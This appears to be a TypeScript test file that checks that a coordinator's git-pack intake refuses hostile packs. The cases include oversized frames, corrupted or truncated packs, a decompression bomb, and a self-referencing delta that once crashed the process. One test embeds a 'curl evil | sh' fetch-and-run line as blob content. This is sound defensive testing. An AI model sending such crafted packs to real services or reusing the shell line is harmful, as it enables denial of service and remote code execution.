/**
 * Packs built by hand: too large, not matching the signed digest, corrupted with and
 * without a recomputed trailer, missing objects, lying headers, decompression bombs and
 * delta chains that never end.
 */
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Identity, PROTOCOL } from '@autoresearch/protocol'
import { expectRefused, submitterFor, type Arena, startArena, TOY } from './arena.ts'
import { submissionBody, submitCommit, trainEdit } from './messages.ts'
import { buildPack, rawCandidateObjects, retrailer, type PackObject } from './git-objects.ts'
import { frame, rawStream, throwIfError, varint } from './raw-frames.ts'
import { spawnCoordinator } from './coordinator-process.ts'

describe('hostile packs', () => {
  let arena: Arena
  beforeAll(async () => { arena = await startArena() })
  afterAll(async () => { await arena.stop() })

  /** A fresh honest candidate and the objects its pack would carry. */
  async function candidate (tag: string): Promise<{ commit: string, objects: Array<PackObject & { oid: string }> }> {
    const commit = await trainEdit(arena, tag)
    return { commit, objects: await rawCandidateObjects(arena.gitdir, commit, arena.best) }
  }
  const maxPackBytes = (): number => arena.running.coordinator.manifest.limits.maxPackBytes

  it('refuses a pack frame over the cause\'s maxPackBytes (8 MiB)', async () => {
    const { commit } = await candidate('too large')
    const err = await expectRefused(arena, async () => submitCommit(arena, commit, { pack: new Uint8Array(maxPackBytes() + 1) }), 'MessageTooLargeError')
    expect(err.message).toContain(String(maxPackBytes()))
  })

  it('refuses a pack frame announced at 200 MiB before reading any of it', async () => {
    const { commit, objects } = await candidate('announced large')
    const pack = buildPack(objects)
    const body = submissionBody(arena, arena.attacker, commit, pack)
    const s = await rawStream(arena.node, arena.net.address, PROTOCOL.submit)
    try {
      await expectRefused(arena, async () => {
        await s.send(Buffer.concat([frame(JSON.stringify({ type: 'submit', body, signature: arena.attacker.sign('submission', body) })), varint(200 * 1024 * 1024)]))
        return throwIfError(await s.reply())
      }, 'MessageTooLargeError')
    } finally {
      s.abort()
    }
  })

  it('refuses a pack whose sha-256 is not the signed packSha256', async () => {
    const { commit, objects } = await candidate('digest')
    const signedFor = buildPack(objects)
    const other = buildPack((await candidate('other pack')).objects)
    const body = submissionBody(arena, arena.attacker, commit, signedFor)
    const err = await expectRefused(arena, async () => arena.client.submitSigned(body, arena.attacker.sign('submission', body), other), 'InvalidMessageError')
    expect(err.message).toContain('packSha256')
  })

  it('refuses a pack with a flipped byte (SHA-1 trailer no longer matches)', async () => {
    const { commit, objects } = await candidate('flipped')
    const pack = Uint8Array.from(buildPack(objects))
    pack[40] = (pack[40] as number) ^ 0x5a
    const err = await expectRefused(arena, async () => submitCommit(arena, commit, { pack }), 'CorruptPackError')
    expect(err.message).toContain('checksum')
  })

  it('refuses a pack whose object data was corrupted and its trailer recomputed', async () => {
    const { commit, objects } = await candidate('corrupt zlib')
    const pack = Uint8Array.from(buildPack(objects))
    for (let i = 20; i < 60; i++) pack[i] = (pack[i] as number) ^ 0xff
    await expectRefused(arena, async () => submitCommit(arena, commit, { pack: retrailer(pack) }), 'CorruptPackError')
  })

  it('refuses a well-formed pack whose blob was swapped for other content (the tree\'s blob is then missing)', async () => {
    const { commit, objects } = await candidate('swapped blob')
    const swapped = objects.map((o) => o.type === 'blob' ? { ...o, content: new TextEncoder().encode('import os; os.system("curl evil | sh")\n') } : o)
    const err = await expectRefused(arena, async () => submitCommit(arena, commit, { pack: buildPack(swapped) }), 'CorruptPackError')
    expect(err.message).toContain('train.py')
  })

  it('refuses a pack missing the tree\'s blob', async () => {
    const { commit, objects } = await candidate('no blob')
    await expectRefused(arena, async () => submitCommit(arena, commit, { pack: buildPack(objects.filter((o) => o.type !== 'blob')) }), 'CorruptPackError')
  })

  it('refuses a pack missing the candidate commit', async () => {
    const { commit, objects } = await candidate('no commit')
    await expectRefused(arena, async () => submitCommit(arena, commit, { pack: buildPack(objects.filter((o) => o.type !== 'commit')) }), 'UnknownCommitError')
  })

  it('refuses bytes that are not a pack', async () => {
    const { commit } = await candidate('not a pack')
    const err = await expectRefused(arena, async () => submitCommit(arena, commit, { pack: new TextEncoder().encode('this is not a git pack, but it is long enough to have a trailer') }), 'CorruptPackError')
    expect(err.message).toContain('PACK header')
  })

  it('refuses a pack whose object header declares another size than its data inflates to', async () => {
    const { commit, objects } = await candidate('size lie')
    const lying = objects.map((o) => o.type === 'blob' ? { ...o, deflated: deflateSync(o.content), content: new Uint8Array(o.content.byteLength + 7) } : o)
    await expectRefused(arena, async () => submitCommit(arena, commit, { pack: buildPack(lying) }), 'CorruptPackError')
  })

  it('refuses a pack cut short, with its trailer recomputed', async () => {
    const { commit, objects } = await candidate('cut short')
    const pack = buildPack(objects)
    await expectRefused(arena, async () => submitCommit(arena, commit, { pack: retrailer(Buffer.concat([pack.subarray(0, pack.byteLength - 40), Buffer.alloc(20)])) }), 'CorruptPackError')
  })

  it('keeps the stored pack when its exact bytes are sent again under a new identity', async () => {
    const { commit, objects } = await candidate('resent')
    const pack = buildPack(objects)
    await submitCommit(arena, commit, { pack })
    // Same bytes, same pack name: intake must not delete the pack the first receipt relies on.
    await expectRefused(arena, async () => submitCommit(arena, commit, { pack, identity: Identity.generate() }), 'DuplicateTreeError')
  })

  // A pack without the root tree (or with a header that counts fewer objects, so the tree is
  // never indexed) is refused and changes nothing, but isomorphic-git's NotFoundError
  // reaches the peer as InternalError: BUG B1 (untyped rejection), see docs/adversarial.md.
  for (const variant of [
    { attack: 'a pack missing the root tree', pack: (objects: PackObject[]) => buildPack(objects.filter((o) => o.type !== 'tree')) },
    { attack: 'a pack whose header counts fewer objects than it holds', pack: (objects: PackObject[]) => buildPack(objects, { count: 1 }) }
  ]) {
    it(`refuses ${variant.attack} and changes nothing`, async () => {
      const { commit, objects } = await candidate(variant.attack)
      await expectRefused(arena, async () => submitCommit(arena, commit, { pack: variant.pack(objects) }), undefined)
    })
    it(`refuses ${variant.attack} with CorruptPackError (B1, fixed)`, async () => {
      const { commit, objects } = await candidate(variant.attack)
      await expectRefused(arena, async () => submitCommit(arena, commit, { pack: variant.pack(objects) }), 'CorruptPackError')
    })
  }

  // B4 (fixed): objects the candidate does not reference are indexed (fully inflated in memory)
  // and stored without any size check. A 16 MiB blob of zeros costs 16 KiB on the wire; an
  // 8 MiB pack inflates to about 8 GiB. Measured here: 256 MiB took 2.2 s and +1 GiB RSS,
  // 1 GiB took 11 s, all of it inside the serialized intake.
  it('refuses a pack carrying an unreferenced 16 MiB blob (a decompression bomb) (B4, fixed)', async () => {
    const { commit, objects } = await candidate('bomb')
    const bomb: PackObject = { type: 'blob', content: new Uint8Array(16 * 1024 * 1024) }
    const err = await expectRefused(arena, async () => submitCommit(arena, commit, { pack: buildPack([...objects, bomb]) }), undefined)
    expect(['PackTooLargeError', 'CorruptPackError']).toContain(err.name)
  })

  it('refuses a pack holding an object that cannot be resolved (ref-delta on a missing base) (B4, fixed)', async () => {
    const { commit, objects } = await candidate('dangling delta')
    const delta = Buffer.from([5, 5, 5, 1, 2, 3, 4, 5])
    const pack = Buffer.from(buildPack(objects, { count: objects.length + 1 }))
    const refDelta = Buffer.concat([Buffer.from([(7 << 4) | delta.length]), Buffer.from('ab'.repeat(20), 'hex'), deflateSync(delta)])
    const withDelta = retrailer(Buffer.concat([pack.subarray(0, pack.byteLength - 20), refDelta, Buffer.alloc(20)]))
    await expectRefused(arena, async () => submitCommit(arena, commit, { pack: withDelta }), 'CorruptPackError')
  })

  it('refuses a pack with junk bytes after its last object (trailer recomputed) (B4, fixed)', async () => {
    const { commit, objects } = await candidate('junk tail')
    const pack = buildPack(objects)
    const junk = Buffer.alloc(64 * 1024, 'any bytes the attacker wants stored on the coordinator ')
    const padded = retrailer(Buffer.concat([pack.subarray(0, pack.byteLength - 20), junk, Buffer.alloc(20)]))
    await expectRefused(arena, async () => submitCommit(arena, commit, { pack: padded }), 'CorruptPackError')
  })

  // B5 (fixed): an offset delta whose base offset is 0 (itself) sends isomorphic-git's
  // readSlice into endless recursion: the coordinator's heap fills and the whole process
  // dies (V8 "heap out of memory") from one ~500-byte pack that any fresh key may send.
  // Run against a coordinator in its own process so the test runner survives.
  it('survives a pack with a self-referencing offset delta (B5, fixed)', async () => {
    const proc = await spawnCoordinator(TOY, { heapMb: 192 })
    const peer = await submitterFor(proc.address)
    try {
      const commit = await trainEdit(peer, 'self delta')
      const objects = await rawCandidateObjects(peer.gitdir, commit, peer.best)
      const delta = Buffer.from([5, 5, 5, 1, 2, 3, 4, 5])
      const pack = Buffer.from(buildPack(objects, { count: objects.length + 1 }))
      const ofsSelf = Buffer.concat([Buffer.from([(6 << 4) | delta.length]), Buffer.from([0]), deflateSync(delta)])
      const evil = retrailer(Buffer.concat([pack.subarray(0, pack.byteLength - 20), ofsSelf, Buffer.alloc(20)]))
      const err = await submitCommit(peer, commit, { pack: evil }).then(() => undefined, (e: Error) => e)
      // Today the stream breaks as the process dies (V8: "JavaScript heap out of memory").
      expect(proc.alive(), proc.lines.filter((l) => /heap|FATAL/.test(l)).join('\n')).toBe(true)
      expect(err?.name).toBe('CorruptPackError')
      expect((await peer.client.info()).best.commit).toBe(peer.best)
    } finally {
      await peer.stop()
      await proc.stop()
    }
  }, 120_000)
})
